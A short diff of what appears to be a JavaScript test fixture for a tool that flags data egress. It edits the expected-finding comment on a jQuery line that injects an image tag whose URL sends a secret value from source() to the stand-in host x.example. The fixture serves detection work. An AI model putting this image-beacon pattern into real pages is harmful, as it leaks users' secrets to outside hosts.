@@ -1,6 +1,6 @@
 import jQuery from "jquery";
 
-jQuery("#a").html(`<img src="https://x.example/?${source()}">`); // row: egress image GET external https://x.example/?{} <- secret url
+jQuery("#a").html(`<img src="https://x.example/?${source()}">`); // row: egress image GET external https://x.example/? https://x.example/?{} <- secret url
 jQuery("#a").append("<p>nothing</p>");
 jQuery("#a").prepend('<iframe src="https://x.example/"></iframe>'); // row: egress frame GET external https://x.example/
 jQuery("#a").before('<img src="https://x.example/">'); // row: egress image GET external https://x.example/
